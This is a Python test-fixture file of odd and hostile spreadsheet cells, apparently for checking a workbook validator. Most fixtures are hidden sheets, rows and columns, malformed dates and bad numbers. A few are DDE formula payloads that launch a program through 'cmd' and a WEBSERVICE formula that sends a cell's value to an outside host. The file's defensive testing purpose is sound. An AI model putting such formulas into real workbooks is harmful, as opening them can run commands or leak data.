"""Workbooks with odd cells, hidden ones, and ones that come from elsewhere."""

from tests.evidence.books import ONE_PERSON, Xml, serial, sheet, workbook, worksheet
from tests.evidence.hostile.making import GOOD, with_parts, with_rows
from tests.evidence.hostile.odd import (
    DAY,
    HEADINGS,
    SHEETS_LISTED,
    Odd,
    cols,
    formula,
    hidden,
    hidden_row,
    joined,
    linked,
    one,
    shared,
)

ODD_CELLS: dict[str, Odd] = {
    # what is hidden
    "a hidden sheet": Odd(hidden("hidden"), says=("064 people",)),
    "a very hidden sheet": Odd(hidden("veryHidden"), says=("064 people",)),
    "a hidden row": Odd(hidden_row('hidden="1"'), says=("064 people!A2",)),
    "a row that a filter hides": Odd(hidden_row('spans="1:2" hidden="true"'), says=("064 people!A2",)),
    "a row that is shown": Odd(hidden_row('hidden="0"')),
    "hidden headings": Odd(with_rows(ONE_PERSON.replace('<row r="1">', '<row r="1" hidden="1">'))),
    "a hidden row with nothing in it": Odd(
        with_rows(ONE_PERSON + '<row r="9" hidden="1"><c r="A9" s="1"/></row>')
    ),
    "a hidden column": Odd(cols('<col min="2" max="2" hidden="1"/>'), says=("064 people!B1",)),
    "hidden columns beside": Odd(cols('<col min="3" max="16384" hidden="1"/>')),
    "hidden columns of nonsense": Odd(cols('<col min="x" max="99999999999" hidden="1"/>')),
    # what comes from elsewhere
    "a formula": Odd(formula("<f>A9</f>")),
    "an array formula": Odd(formula('<f t="array" ref="A2">A9:A9</f>')),
    "a shared formula": Odd(formula('<f t="shared" si="0"/>')),
    "a formula that runs a program": Odd(formula("<f>cmd|'/c calc'!A0</f>")),
    "a formula that asks the web": Odd(formula('<f>WEBSERVICE("http://example.org/"&amp;A1)</f>')),
    "a formula that asks another file": Odd(formula("<f>[1]Sheet1!A1</f>")),
    "another file": Odd(linked("externalLink", "<externalLink/>"), says=("065 book.xlsx",)),
    "a program to ask": Odd(
        linked("externalLink", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
        says=("065 book.xlsx",),
    ),
    "a database to ask": Odd(linked("connections", "<connections/>"), says=("065 book.xlsx",)),
    # cells
    "from 1904": Odd(
        with_parts(
            {
                "xl/workbook.xml": workbook(f'<workbookPr date1904="1"/><sheets>{SHEETS_LISTED}</sheets>'),
                GOOD: worksheet(ONE_PERSON.replace(str(serial(DAY)), str(serial(DAY) - 1462))),
            }
        )
    ),
    "a day as text": Odd(joined('<c r="{r}" t="str"><v>2025-04-01</v></c>')),
    "a day of its own type": Odd(joined('<c r="{r}" t="d"><v>2025-04-01</v></c>')),
    "a day with a fraction of nothing": Odd(joined(f'<c r="{{r}}" s="1"><v>{serial(DAY)}.0</v></c>')),
    "a style that is not there": Odd(
        one('<c r="{r}" s="99" t="str"><v>P-1</v></c>', '<c r="{r}" s="" t="str"><v>2025-04-01</v></c>')
    ),
    "blanks around": Odd(one('<c r="{r}" t="str"><v> P-1&#10;</v></c>')),
    "a character spelt out": Odd(one('<c r="{r}" t="str"><v>P_x002D_1</v></c>')),
    "two fonts": Odd(one('<c r="{r}" t="inlineStr"><is><r><t>P-</t></r><r><rPr/><t>1</t></r></is></c>')),
    "a reading aid": Odd(shared("<r><t>P-</t></r><r><t>1</t></r><rPh><t>pee one</t></rPh>")),
    "very many texts announced": Odd(shared("<t>P-1</t>", about=' count="9" uniqueCount="4294967295"')),
    "a text that is not there": Odd(
        with_rows(sheet(HEADINGS, [Xml('<c r="{r}" t="s"><v>4294967295</v></c>'), DAY])),
        {},
        ("023 people!A2",),
    ),
    "a type of nobody's": Odd(one('<c r="{r}" t="x"><v>P-1</v></c>'), {}, ("023 people!A2",)),
    "a formula never worked out": Odd(one('<c r="{r}"><f>A9</f></c>'), {}, ("022 people!A2",)),
}

ERRORS = (
    *("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"),
    *("#GETTING_DATA", "#SPILL!", "#CALC!", "#FIELD!", "#BLOCKED!", "#CONNECT!", "#UNKNOWN!", "#BUSY!"),
    *("#PYTHON!", "#EXTERNAL!", "#TIMEOUT!"),
)
ODD_CELLS |= {
    f"the error {error}": Odd(one(f'<c r="{{r}}" t="e"><v>{error}</v></c>'), {}, ("021 people!A2",))
    for error in ERRORS
}

NOT_NUMBERS = ("NaN", "INF", "-Infinity", "1e9999", "0x1F", "1,5", "1 5", "\u0661", "--1", "1e")
ODD_CELLS |= {
    f"the number {number}": Odd(
        joined(f'<c r="{{r}}" s="1"><v>{number}</v></c>'),
        {},
        ("023 people!B2",),
    )
    for number in NOT_NUMBERS
}
